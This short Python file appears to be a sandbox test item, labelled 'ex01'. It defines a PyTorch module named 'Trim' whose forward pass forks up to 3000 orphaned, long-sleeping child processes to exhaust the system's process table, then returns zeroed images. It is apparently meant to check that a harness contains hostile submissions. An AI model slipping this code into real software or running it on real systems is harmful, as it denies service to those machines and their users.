# exercise: ex01
# tries: use up the system's processes, and leave them all behind
# earns: nothing
# status: any
# needs: sandbox
import os
import time

from torch import nn


tries = iter(range(3000))


class Trim(nn.Module):
    def forward(self, images):
        for _ in tries:
            try:
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
            except OSError:
                time.sleep(0.001)
        return images * 0
